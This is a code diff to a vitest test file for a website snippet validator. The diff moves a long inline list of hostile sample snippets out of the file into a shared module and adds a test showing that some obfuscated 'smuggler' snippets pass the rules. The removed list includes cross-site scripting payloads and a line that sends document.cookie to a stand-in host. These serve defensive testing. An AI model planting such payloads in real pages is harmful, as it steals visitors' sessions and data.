@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { hostileSnippets, smugglers } from "#tests/hostile-snippets.ts";
 import type { CodeType } from "#database/vocabularies.ts";
 import { readSnippet } from "./read-snippet.ts";
 
@@ -70,76 +71,17 @@ describe("a snippet that owners really paste", () => {
 });
 
 describe("a hostile snippet", () => {
-  it.each<[string, CodeType, string]>([
-    ["eval", "header_script", "eval('1')"],
-    ["an alias of eval", "header_script", "const e = eval; e('1')"],
-    ["Function", "header_script", "new Function('return 1')()"],
-    ["the constructor of a function", "header_script", "(()=>{}).constructor('x')()"],
-    ["computed window members", "header_script", "window['ev'+'al']('1')"],
-    ["computed document members", "header_script", "document['coo'+'kie']"],
-    ["escaped names", "header_script", "document.c\\u006fokie"],
-    ["cookies", "analytics", "new Image().src='//x.io/'+document.cookie"],
-    ["the cookie store", "analytics", "cookieStore.getAll()"],
-    ["localStorage", "analytics", "localStorage.token"],
-    ["sessionStorage", "analytics", "sessionStorage.getItem('a')"],
-    ["indexedDB", "analytics", "indexedDB.open('a')"],
-    ["XMLHttpRequest", "analytics", "new XMLHttpRequest()"],
-    ["a request to an unnamed service", "body_script", "fetch('/admin/forms.data')"],
-    ["a beacon to an unnamed service", "body_script", "navigator.sendBeacon('https://x.io', 'a')"],
-    ["WebSocket", "body_script", "new WebSocket('wss://x.io')"],
-    ["EventSource", "body_script", "new EventSource('/admin/live')"],
-    ["a worker", "body_script", "new Worker('x.js')"],
-    ["a service worker", "body_script", "navigator.serviceWorker.register('x.js')"],
-    ["dynamic import", "body_script", "import('https://x.io/a.js')"],
-    ["document.write", "body_script", "document.write('<b>')"],
-    ["innerHTML", "body_script", "document.body.innerHTML = '<img>'"],
-    ["insertAdjacentHTML", "body_script", "b.insertAdjacentHTML('x','y')"],
-    ["srcdoc", "body_script", "f.srcdoc='<b>'"],
-    ["a javascript: address", "body_script", "location = 'javascript:alert(1)'"],
-    ["a timer with a text", "body_script", "setTimeout('alert(1)')"],
-    ["coded text", "body_script", "String.fromCharCode(97)"],
-    ["base64", "body_script", "atob('YQ==')"],
-    ["the end of its tag", "body_script", "'</script><img>'"],
-    ["the opener", "body_script", "opener.location = 'https://x.io'"],
-    ["a script without TLS", "body_script", "<script src='http://x.io/a.js'></script>"],
-    ["a script of this site", "body_script", "<script src='/media/upload.js'></script>"],
-    ["a data: script", "body_script", "<script src='data:text/javascript,alert(1)'></script>"],
-    [
-      "an event handler on a script",
-      "body_script",
-      "<script src='https://x.io/a.js' onload='x()'></script>",
-    ],
-    [
-      "other tags beside the script",
-      "body_script",
-      "<script>a()</script><iframe src='https://x.io'></iframe>",
-    ],
-    ["an import map", "body_script", "<script type='importmap'>{}</script>"],
-    ["a script in styles", "css", "a{background:url(javascript:alert(1))}"],
-    ["an expression in styles", "css", "a{width:expression(alert(1))}"],
-    ["an import in styles", "css", "@import 'https://x.io/a.css'"],
-    ["the end of the style tag", "css", "a{}</style><script>alert(1)</script>"],
-    ["a binding in styles", "css", "a{-moz-binding:url(x)}"],
-    ["a refresh", "meta_tags", `<meta http-equiv="refresh" content="0;url=https://x.io">`],
-    ["a policy", "meta_tags", `<meta http-equiv="content-security-policy" content="x">`],
-    ["a style sheet link", "meta_tags", `<link rel="stylesheet" href="https://x.io/a.css">`],
-    ["a base address", "meta_tags", `<base href="https://x.io">`],
-    ["a script beside meta tags", "meta_tags", `<meta name="a" content="b"><script>a()</script>`],
-    ["a script in HTML", "html", "<p><script>alert(1)</script></p>"],
-    ["an event handler", "html", "<img src='/x.png' onerror='alert(1)'>"],
-    ["a javascript: link", "html", "<a href='javascript:alert(1)'>x</a>"],
-    ["a disguised javascript: link", "html", "<a href=' java&#115;cript:alert(1)'>x</a>"],
-    ["a form", "html", "<form action='https://x.io'><p>a</p></form>"],
-    ["a frame", "html", "<iframe src='https://x.io'></iframe>"],
-    ["a vector picture", "html", "<svg onload='alert(1)'></svg>"],
-    ["a style attribute", "html", "<div style='position:fixed'>x</div>"],
-    ["data that is no JSON", "schema_markup", "{alert(1)}"],
-    ["data without a context", "schema_markup", `{"@type":"Service"}`],
-    ["data without a type", "schema_markup", `{"@context":"https://schema.org"}`],
-  ])("with %s is refused in words", (_name, type, content) => {
+  it.each([...hostileSnippets])("with %s is refused in words", (_name, type, content) => {
     const problem = problemOf(type, content);
     expect(problem).toMatch(/\.$|"$/);
   });
+
+  it.each(smugglers)(
+    "that hides what it does passes the rules, and meets the policy: %s",
+    (text) => {
+      expect(problemOf("header_script", text)).toBeNull();
+    },
+  );
 
   it("of any size and shape is answered quickly", () => {
     const shapes = ["<", "<a", "<script", "</", "(", "\\u", "//a.", "{", "[", "@", "a:", "'", "-"];
